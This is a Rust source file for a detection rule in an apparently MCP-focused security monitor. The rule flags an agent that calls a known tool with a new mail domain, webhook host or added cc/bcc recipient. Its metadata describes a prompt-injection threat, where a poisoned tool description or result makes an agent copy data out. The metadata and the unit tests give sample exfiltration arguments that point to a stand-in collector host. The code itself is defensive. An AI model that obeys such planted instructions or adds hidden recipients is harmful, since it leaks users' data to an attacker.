//! DP-06 new-contact: new URL, mail address or copy recipient in arguments of a known tool.

use super::prelude::*;
use std::{collections::BTreeMap, sync::Arc};

use serde_json::Value;

use super::calls::is_call;
use crate::{
    mcp::{context::ServerKey, json},
    types::Direction as Way,
};

const META: Meta = Meta {
    id: "DP-06",
    slug: "new-contact",
    category: "poisoning",
    trigger: "new URL, mail address or copy recipient in arguments of a known tool",
    silent_on: "free-text content",
    severity: Severity::Medium,
    sight: Sight::Plaintext,
    needs: "base",
    taxonomy: Taxonomy {
        air_sec_026: &["logic-backdoor", "credential-harvesting"],
        owasp_mcp: &["MCP10"],
        atlas: &["AML.T0086"],
    },
    listens: &[Kind::Message],
    page: Page {
        means: "An agent calls a tool it knows with a recipient it never used: another mail domain, another host of a webhook, or a copy (cc, bcc, reply-to) where there never was one. That is how data leaves through a tool that is allowed.\n\nA parameter is judged once 20 calls had a contact in it and nearly all of them repeated known ones: the chance of a new one, estimated as the share of contacts seen once (Good-Turing), must be at most 5 %.",
        attacker: "Got an instruction into the agent's context (a poisoned description or result), and with it a copy of each mail or report.",
        wire: "`tools/call` of `send_email` with `\"bcc\":[\"x@collector.example\"]`; `\"callback_url\":\"https://collector.example/in\"` instead of the usual host.",
        act: "Ask whoever runs the agent whether the recipient is theirs. If not, look for the instruction in the results and descriptions that the agent read before this call, and revoke what was sent.",
        quiet: "Long texts, and parameters whose contacts are always new (a fetch tool), are silent. Names of hosts that are expected: `rules: {DP-06: {allow: [partner.example]}}`.",
    },
};

/// Parameters that add a recipient. Lower case, without `_` and `-`.
const COPIES: &[&str] = &[
    "cc",
    "bcc",
    "copyto",
    "replyto",
    "forwardto",
    "ccrecipients",
    "bccrecipients",
];

/// Calls that teach before a new contact is said.
const LEARN: u32 = 20;
/// Largest share of contacts seen once.
const NOVELTY: f64 = 0.05;
/// Contacts of one parameter, parameters of one tool, tools.
const MAX_CONTACTS: usize = 64;
const MAX_PARAMETERS: usize = 32;
const MAX_TOOLS: usize = 4096;
/// Longest text that can be a contact, and largest arguments looked at.
const MAX_CONTACT: usize = 512;
const MAX_ARGUMENTS: usize = 64 << 10;

/// Contacts of one parameter.
#[derive(Clone, Debug, Default, PartialEq, serde::Serialize, serde::Deserialize)]
struct Parameter {
    /// How often each was seen.
    contacts: BTreeMap<String, u32>,
    seen: u32,
    /// More than [`MAX_CONTACTS`]: everything may be in it.
    open: bool,
}

/// One tool.
#[derive(Clone, Debug, Default, PartialEq, serde::Serialize, serde::Deserialize)]
struct Tool {
    calls: u32,
    parameters: BTreeMap<String, Parameter>,
}

/// Contacts of each server's tools.
pub(super) struct NewContact {
    tools: Remembered<(ServerKey, Arc<str>), Tool>,
}

impl Default for NewContact {
    fn default() -> Self {
        Self {
            tools: Remembered::new(MAX_TOOLS),
        }
    }
}

impl Rule for NewContact {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn memory(&mut self) -> Option<&mut dyn Memory> {
        Some(&mut self.tools)
    }

    fn on(&mut self, seen: &Seen<'_>, world: &World<'_>, out: &mut Vec<Finding>) {
        let SeenKind::Message { message, context } = &seen.kind else {
            return;
        };
        if message.direction != Way::ToServer || !is_call(message) {
            return;
        }
        let arguments = message
            .params()
            .and_then(|p| json::path(p, &["arguments"]))
            .filter(|a| a.len() <= MAX_ARGUMENTS);
        let (Some(name), Some(arguments)) = (&message.name, arguments) else {
            return;
        };
        // A contact has one of these; other calls count as calls only.
        let contacts = if memchr::memchr(b'@', arguments).is_some()
            || memchr::memmem::find(arguments, b"//").is_some()
            || memchr::memmem::find(arguments, b"\\/").is_some()
            || memchr::memmem::find(arguments, b"\\u00").is_some()
        {
            contacts(arguments)
        } else {
            Vec::new()
        };
        let place = (context.session.server.clone(), Arc::clone(name));
        let Some(tool) = self.tools.get_or_default(&place) else {
            return;
        };
        let mut found = Vec::new();
        for (parameter, contact) in contacts {
            if let Some(what) = tool.learn(&parameter, &contact) {
                found.push((parameter, contact, what));
            }
        }
        tool.calls = tool.calls.saturating_add(1);
        let index = context.target.endpoint;
        let name = shown(name);
        for (parameter, contact, known) in found {
            if world.pins.accepts(META.id, index, &contact) {
                continue;
            }
            let (parameter, contact) = (shown(&parameter), shown(&contact));
            out.push(
                Finding::new(
                    META.id,
                    format!(
                        "{} called {name} of {} with the new contact {contact} in {parameter}; ask whether it is theirs, and look what the agent read before",
                        agent(seen),
                        label(world, index, &context.target.origin.host)
                    ),
                )
                .at(index)
                .expected(known)
                .observed(format!("{contact} in {parameter} of {name}")),
            );
        }
    }
}

impl Tool {
    /// Learns a contact; those known, if this one is new and a surprise.
    fn learn(&mut self, name: &str, contact: &str) -> Option<Vec<String>> {
        if !self.parameters.contains_key(name) {
            if self.parameters.len() >= MAX_PARAMETERS {
                return None;
            }
            self.parameters.insert(name.to_owned(), Parameter::default());
        }
        let calls = self.calls;
        let parameter = self.parameters.get_mut(name)?;
        let first = parameter.seen == 0;
        let surprise = if parameter.open || parameter.contacts.contains_key(contact) {
            None
        } else if first && is_copy(name) && calls >= LEARN {
            Some(vec![format!("no {}", shown(name))])
        } else {
            let once = parameter.contacts.values().filter(|n| **n == 1).count();
            let novelty = once as f64 / f64::from(parameter.seen.max(1));
            (parameter.seen >= LEARN && novelty <= NOVELTY)
                .then(|| parameter.contacts.keys().take(8).map(|c| shown(c)).collect())
        };
        parameter.seen = parameter.seen.saturating_add(1);
        if parameter.contacts.len() < MAX_CONTACTS || parameter.contacts.contains_key(contact) {
            let count = parameter.contacts.entry(contact.to_owned()).or_default();
            *count = count.saturating_add(1);
        } else {
            parameter.open = true;
            parameter.contacts.clear();
        }
        surprise
    }
}

fn is_copy(parameter: &str) -> bool {
    let last = parameter.rsplit('.').next().unwrap_or_default();
    let flat = last.to_ascii_lowercase().replace(['_', '-'], "");
    COPIES.contains(&flat.as_str())
}

/// Parameter and contact of each value that is nothing but a contact (or a list of them).
fn contacts(arguments: &[u8]) -> Vec<(String, String)> {
    let mut found = Vec::new();
    if let Ok(value) = serde_json::from_slice::<Value>(arguments) {
        walk(&value, "", 0, &mut found);
    }
    found
}

fn walk(value: &Value, path: &str, depth: u32, found: &mut Vec<(String, String)>) {
    if depth > 4 || found.len() >= MAX_CONTACTS {
        return;
    }
    let deeper = depth.saturating_add(1);
    match value {
        Value::String(text) => {
            for part in text.split([',', ';']).take(MAX_CONTACTS) {
                match contact(part.trim()) {
                    Some(contact) => found.push((path.to_owned(), contact)),
                    // One part that is none makes it a text.
                    None => return,
                }
            }
        }
        Value::Array(items) => items.iter().for_each(|item| walk(item, path, deeper, found)),
        Value::Object(map) => {
            for (key, item) in map {
                let path = if path.is_empty() {
                    key.clone()
                } else {
                    format!("{path}.{key}")
                };
                walk(item, &path, deeper, found);
            }
        }
        _ => {}
    }
}

/// `@domain` of a mail address (also `Name <a@b>`), the host of a URL. Whom exactly it is for stays out:
/// alerts hold no personal data.
fn contact(text: &str) -> Option<String> {
    if text.len() > MAX_CONTACT || text.is_empty() {
        return None;
    }
    if text.contains("://") || text.starts_with("mailto:") {
        if let Some(address) = text.strip_prefix("mailto:") {
            return contact(address.split('?').next().unwrap_or_default());
        }
        let url = url::Url::parse(text).ok()?;
        return url.host_str().map(str::to_ascii_lowercase);
    }
    let address = match text.rsplit_once('<') {
        Some((_, rest)) => rest.strip_suffix('>')?,
        None => text,
    };
    let (local, domain) = address.split_once('@')?;
    let fits = |s: &str| !s.is_empty() && !s.contains([' ', '@', '\n']);
    (fits(local) && fits(domain) && domain.contains('.')).then(|| format!("@{}", domain.to_ascii_lowercase()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn bench(pins: &str) -> Bench {
        let mut bench = Bench::new(NewContact::default(), pins);
        for n in 0..40 {
            let domain = ["corp.example", "partner.example"][n % 2];
            let arguments = format!(
                r#"{{"to":"u{n}@{domain}","callback":"https://hooks.corp.example/{n}","body":"see x{n}@other{n}.example"}}"#
            );
            assert!(bench.calls("send", &arguments, "{}").is_empty(), "{n}");
        }
        bench
    }

    #[test]
    fn fires_on_new_recipients_copies_and_hosts() {
        for (arguments, observed) in [
            (
                r#"{"to":"a@corp.example","bcc":["x@collector.example"]}"#,
                "@collector.example in bcc of send",
            ),
            (
                r#"{"to":"a@corp.example, X <x@collector.example>"}"#,
                "@collector.example in to of send",
            ),
            (
                r#"{"callback":"https://collector.example/in?x=1"}"#,
                "collector.example in callback of send",
            ),
        ] {
            let found = bench("").calls("send", arguments, "{}");
            assert_eq!(found.len(), 1, "{arguments}");
            assert_eq!(found[0].observed.as_deref(), Some(observed));
        }
    }

    #[test]
    fn stays_silent_on_text_known_contacts_and_ever_new_ones() {
        let mut b = bench("rules: {DP-06: {allow: ['@new.example']}}\n");
        for arguments in [
            r#"{"to":"new.person@corp.example"}"#,
            r#"{"body":"write to x@collector.example or https://collector.example/"}"#,
            r#"{"to":"a@new.example"}"#,
        ] {
            assert!(b.calls("send", arguments, "{}").is_empty(), "{arguments}");
        }
        let mut fetch = Bench::new(NewContact::default(), "");
        for n in 0..200 {
            let arguments = format!(r#"{{"url":"https://site{n}.example/"}}"#);
            assert!(fetch.calls("fetch", &arguments, "{}").is_empty(), "{n}");
        }
        assert!(
            fetch.calls("send", r#"{"bcc":"a@b.example"}"#, "{}").is_empty(),
            "an unknown tool"
        );
    }
}
